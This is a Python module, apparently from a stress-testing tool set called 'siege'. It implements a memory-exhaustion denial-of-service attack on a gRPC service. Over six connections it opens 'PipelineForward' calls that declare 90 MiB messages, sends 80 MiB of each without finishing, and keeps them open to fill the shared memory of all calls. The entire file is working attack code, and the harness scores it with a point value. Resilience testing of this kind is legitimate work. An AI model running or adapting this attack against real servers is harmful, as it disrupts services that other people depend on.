"""Begins messages of 90 MiB and stops after 80, to fill the memory that all calls share."""

from __future__ import annotations

from collections.abc import Sequence
from contextlib import suppress

import trio

from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold
from tools.siege.grpc_frames import PREFACE, begin, data, half_of

CONNECTIONS = 6
PIECE = bytes(16_384)
SENT = 80 << 20


async def attack(target: Target, sources: Sequence[str]) -> None:
    """Hold the messages, and begin others for those that the node ends."""
    first = PREFACE + begin(1, "PipelineForward") + data(1, half_of(90 << 20))
    pieces = data(1, PIECE) * 16

    async def visit(stream: trio.SocketStream) -> None:
        async def send() -> None:
            with suppress(trio.BrokenResourceError, trio.ClosedResourceError):
                await stream.send_all(first)
                for _ in range(SENT // (16 * len(PIECE))):
                    await stream.send_all(pieces)

        async with trio.open_nursery() as nursery:
            nursery.start_soon(send)
            with suppress(trio.BrokenResourceError):
                while await stream.receive_some(65536):
                    pass
            nursery.cancel_scope.cancel()

    await hold([Crowd(target.host, target.grpc_port, CONNECTIONS)], sources, visit)


ATTACK = Attack("6 messages of 90 MiB, of which 80 MiB are sent", attack, point=4)
